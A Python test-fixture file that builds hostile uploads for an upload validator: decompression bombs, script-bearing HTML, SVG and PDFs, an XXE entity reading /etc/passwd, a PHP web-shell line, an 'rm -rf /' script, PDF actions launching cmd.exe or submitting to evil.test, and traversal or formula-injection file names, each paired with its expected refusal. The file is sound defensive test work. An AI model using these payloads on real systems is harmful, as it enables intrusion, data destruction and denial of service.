"""Hostile uploads, made here and now, class by class: (name, file name, content, refusal; "" when made harmless)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

Case = tuple[str, str, "bytes | Callable[[], bytes]", str]  # what is heavy is made when it is wanted
ZIP = b"PK\x03\x04"
SCRIPT = b"<script>alert(1)</script>"
MB = 1024 * 1024


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, pages: int = 1, **options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page()
        if change:
            change(made)
        made.save(out, **options)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *more: bytes, depth: int = 8, data: bytes = b"\x00") -> bytes:
    """A PNG whose header says what it likes."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", zlib.compress(data)) + _chunk(b"IEND", b"")


def _packed_chunk(kind: bytes) -> bytes:
    return png_of(1, 1, _chunk(kind, b"x\x00\x00" + packed(64 * MB)), data=b"\x00" * 4)


def packed(size: int, times: int = 1) -> bytes:
    """So many zeros, packed so many times."""
    packing = zlib.compressobj(9)
    data = b"".join(packing.compress(b"\x00" * MB) for _ in range(size // MB)) + packing.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("zeros", b"\x00" * 20 * MB)
    return out.getvalue()


def nothing_it_is() -> Iterator[Case]:
    """What is no PDF, JPEG or PNG at all, whatever its name says."""
    for name, content in {
        "html": b"<!doctype html><html>" + SCRIPT,
        "html with a byte order mark": b"\xef\xbb\xbf<html>" + SCRIPT,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg after a prolog": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "xml with an entity bomb": b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
        "xml with an outside entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "zip": archive(),
        "zip bomb": lambda: ZIP + packed(64 * MB),
        "docx": ZIP + b"word/document.xml",
        "gzip bomb": lambda: b"\x1f\x8b" + packed(64 * MB),
        "gif and javascript": b"GIF89a/*" + b"\x00" * 9 + b"*/=1;alert(1)//",
        "gif": picture("GIF"),
        "webp": picture("WEBP"),
        "bmp": picture("BMP"),
        "tiff": picture("TIFF"),
        "ico": picture("ICO", (16, 16)),
        "executable": b"MZ" + b"\x00" * 200,
        "elf": b"\x7fELF" + b"\x00" * 200,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET['c']); ?>",
        "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
        "text": "营业执照".encode(),
        "zeros": b"\x00" * 5000,
        "html before a pdf": b"<html>" + SCRIPT + pdf(),
        "spaces before a pdf": b" \n" + pdf(),
        "script before a jpeg": SCRIPT + picture("JPEG"),
    }.items():
        yield name, "licence.pdf", content, "document.kind"


def of_no_size() -> Iterator[Case]:
    limit = 10 * MB
    yield "empty", "licence.png", b"", "document.empty"
    yield "one byte too long", "licence.pdf", pdf().ljust(limit + 1, b"\n"), "document.size"
    yield "exactly the limit", "licence.pdf", pdf().ljust(limit, b"\n"), ""
    yield "one byte short of it", "licence.pdf", pdf().ljust(limit - 1, b"\n"), ""
    yield "one byte", "licence.png", b"\x89", "document.kind"


def damaged_pictures() -> Iterator[Case]:
    whole, jpeg = picture(size=(400, 300)), picture("JPEG", (400, 300))
    for name, content in {
        "png cut short": whole[: len(whole) // 2],
        "png header only": whole[:33],
        "png signature only": whole[:8],
        "png with a wrong check sum": whole[:40] + bytes([whole[40] ^ 255]) + whole[41:],
        "png of no width": png_of(0, 10),
        "png of an impossible depth": png_of(10, 10, depth=77),
        "png of zeros": b"\x89PNG\r\n\x1a\n" + b"\x00" * 99,
        "jpeg header only": jpeg[:20],
        "jpeg of zeros": b"\xff\xd8\xff" + b"\x00" * 500,
        "jpeg cut short": jpeg[: len(jpeg) // 3],
    }.items():
        yield name, "licence.png", content, "document.broken"


def picture_bombs() -> Iterator[Case]:
    yield "png of 900 megapixels", "licence.png", png_of(30_000, 30_000), "document.too_large_picture"
    yield (
        "png bomb that unpacks",
        "licence.png",
        lambda: picture(size=(9000, 9000), mode="L"),
        "document.too_large_picture",
    )
    yield "png of the largest sides", "licence.png", png_of(2**31 - 1, 2**31 - 1), "document.too_large_picture"
    wide = picture("JPEG", (400, 300)).replace(struct.pack(">HH", 300, 400), struct.pack(">HH", 65_000, 65_000), 1)
    yield "jpeg of 4,225 megapixels", "licence.jpg", wide, "document.too_large_picture"
    bomb = b"Comment\x00\x00" + packed(64 * MB)
    yield (
        "png with a text bomb",
        "licence.png",
        png_of(1, 1, _chunk(b"zTXt", bomb), data=b"\x00" * 4),
        "document.broken",
    )
    profile = b"x\x00\x00" + packed(64 * MB)
    yield (
        "png with a profile bomb",
        "licence.png",
        png_of(1, 1, _chunk(b"iCCP", profile), data=b"\x00" * 4),
        "document.broken",
    )


def pictures_with_more() -> Iterator[Case]:
    whole, jpeg = picture(size=(400, 300)), picture("JPEG", (400, 300))
    exif = Image.Exif()
    exif[0x010F], exif[0x8298] = "SECRET-CAMERA", SCRIPT.decode()
    yield "jpeg with EXIF", "licence.jpg", picture("JPEG", exif=exif), ""
    yield "jpeg with a comment", "licence.jpg", picture("JPEG", comment=SCRIPT), ""
    yield "jpeg and zip", "licence.jpg", jpeg + archive(), ""
    yield "png and php", "licence.png", whole + b"<?php evil(); ?>", ""
    yield "png and html", "licence.html", whole + b"<html>" + SCRIPT, ""


def _says(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: made.Root.__setattr__("OpenAction", made.make_indirect(action))


def _annotated(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    return lambda made: made.pages[0].obj.__setattr__("Annots", Array([made.make_indirect(link)]))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["x.exe"] = b"MZ"


def _rooted(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: [made.Root.__setattr__(key, value) for key, value in keys.items()] and None


def _paged(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: [made.pages[0].obj.__setattr__(key, value) for key, value in keys.items()] and None


def _outside(made: pikepdf.Pdf) -> None:
    made.Root.Extra = made.make_stream(b"", F="\\\\server\\share")


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def acting_pdfs() -> Iterator[Case]:
    for name, change in {
        "script on opening": _says(_script()),
        "launch on opening": _says(Dictionary(S=Name.Launch, F="cmd.exe")),
        "script by name": _rooted(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", _script()])))),
        "script on a page": _paged(AA=Dictionary(O=_script())),
        "script on a link": _annotated(_script()),
        "launch on a link": _annotated(Dictionary(S=Name.Launch, F="cmd.exe")),
        "remote file on a link": _annotated(Dictionary(S=Name.GoToR, F="\\\\server\\x.pdf")),
        "form sent on a link": _annotated(Dictionary(S=Name.SubmitForm, F="https://evil.test")),
        "data fetched on a link": _annotated(Dictionary(S=Name.ImportData, F="x.fdf")),
        "script at the end of a chain": _annotated(Dictionary(S=Name.URI, URI="https://a.test", Next=_script())),
        "attachment": _attached,
        "portfolio": _rooted(Collection=Dictionary(View=Name.T)),
        "form with XFA": _rooted(AcroForm=Dictionary(Fields=Array([]), XFA="<xdp/>")),
        "rich media": _paged(Annots=Array([Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())])),
        "movie": _annotated(Dictionary(S=Name.Movie)),
        "stream of another file": _outside,
    }.items():
        yield f"pdf: {name}", "licence.pdf", pdf(change), "document.active"
        if name == "script on opening":
            hidden = pdf(_says(_script()), object_stream_mode=pikepdf.ObjectStreamMode.generate)
            yield "pdf: script in an object stream", "licence.pdf", hidden, "document.active"


def other_pdfs() -> Iterator[Case]:
    whole = pdf()
    locked = pikepdf.Encryption(owner="a", user="b")
    yield "pdf: password", "licence.pdf", pdf(encryption=locked), "document.locked"
    yield (
        "pdf: owner's password",
        "licence.pdf",
        pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "document.locked",
    )
    yield "pdf: only its first line", "licence.pdf", b"%PDF-1.7 not really", "document.broken"
    yield "pdf: cut short", "licence.pdf", whole[: len(whole) // 3], "document.broken"
    yield "pdf: no pages", "licence.pdf", pdf(pages=0), "document.pages"
    yield "pdf: 61 pages", "licence.pdf", pdf(pages=61), "document.pages"
    yield "pdf: 60 pages", "licence.pdf", pdf(pages=60), ""
    yield "pdf: and html", "licence.pdf.html", whole + SCRIPT, ""
    yield "pdf: and zip", "licence.zip", whole + archive(), ""


def _huge(made: pikepdf.Pdf) -> None:
    made.pages[0].mediabox = Array([0, 0, 1_000_000, 1_000_000])


def _flat(made: pikepdf.Pdf) -> None:
    made.pages[0].mediabox = Array([0, 0, 0, 0])


def _bomb(times: int) -> Callable[[pikepdf.Pdf], None]:
    filters = Array([Name.FlateDecode] * times) if times > 1 else Name.FlateDecode

    def change(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, packed(300 * MB, times))
        stream.Filter = filters
        made.pages[0].Contents = made.make_indirect(stream)

    return change


def _image(width: int, height: int) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height)
        made.pages[0].Resources = Dictionary(XObject=Dictionary(I=stream))
        made.pages[0].Contents = made.make_stream(b"/I Do")

    return change


def _crowd(made: pikepdf.Pdf) -> None:
    made.Root.Crowd = Array([made.make_indirect(Dictionary(N=n)) for n in range(20_100)])


def pdf_bombs() -> Iterator[Case]:
    yield "pdf: a page of kilometres", "licence.pdf", pdf(_huge), "document.bomb"
    yield "pdf: a page of nothing", "licence.pdf", pdf(_flat), "document.bomb"
    yield "pdf: flate bomb", "licence.pdf", lambda: pdf(_bomb(1), compress_streams=False), "document.bomb"
    yield "pdf: flate in flate", "licence.pdf", lambda: pdf(_bomb(2), compress_streams=False), "document.bomb"
    yield "pdf: flate six deep", "licence.pdf", lambda: pdf(_bomb(6), compress_streams=False), "document.bomb"
    yield (
        "pdf: picture of 900 megapixels",
        "licence.pdf",
        lambda: pdf(_image(30_000, 30_000)),
        "document.too_large_picture",
    )
    yield "pdf: twenty thousand objects", "licence.pdf", lambda: pdf(_crowd), "document.bomb"
    yield "pdf: nested a thousand deep", "licence.pdf", _nested(1000), "document.broken"
    yield "pdf: pages that hold themselves", "licence.pdf", _own_parent(), "document.broken"
    yield "pdf: object stream bomb", "licence.pdf", _object_stream_bomb, "document.broken"


def _plain(*objects: bytes) -> bytes:
    """A PDF written by hand, without a table: readers rebuild it."""
    body = b"%PDF-1.5\n"
    for number, text in enumerate(objects, 1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    return body + b"trailer\n<< /Root 1 0 R /Size %d >>\n%%%%EOF\n" % (len(objects) + 1)


def _nested(deep: int) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /X " + b"[" * deep + b"]" * deep + b" >>"
    return _plain(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page)


def _own_parent() -> bytes:
    return _plain(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def _object_stream_bomb() -> bytes:
    data = packed(600 * MB)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
    return _plain(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", stream + data + b"\nendstream"
    )


def named_badly() -> Iterator[Case]:
    """Good pictures with hostile names: taken, the name only shown."""
    for name, typed in {
        "traversal": "../../../etc/passwd.png",
        "traversal of windows": "..\\..\\boot.ini",
        "NUL in the name": "a\x00.png",
        "line breaks in the name": "a\r\nSet-Cookie: x=1.png",
        "right to left": "\u202egnp.exe",
        "300 characters": "很" * 300 + ".png",
        "html as name": "<img src=x onerror=alert(1)>.png",
        "two endings": "licence.png.exe",
        "zero width": "li\u200bcence.png",
        "formula": "=cmd|' /C calc'!A0.png",
        "a name of dots": "...",
        "four-byte characters": "𠮷.png",
    }.items():
        yield f"name: {name}", typed, picture(), ""


def cases() -> list[Case]:
    made = (
        nothing_it_is, of_no_size, damaged_pictures, picture_bombs, pictures_with_more, acting_pdfs, other_pdfs, pdf_bombs,
        named_badly,
    )  # fmt: skip

    return [case for kind in made for case in kind()]
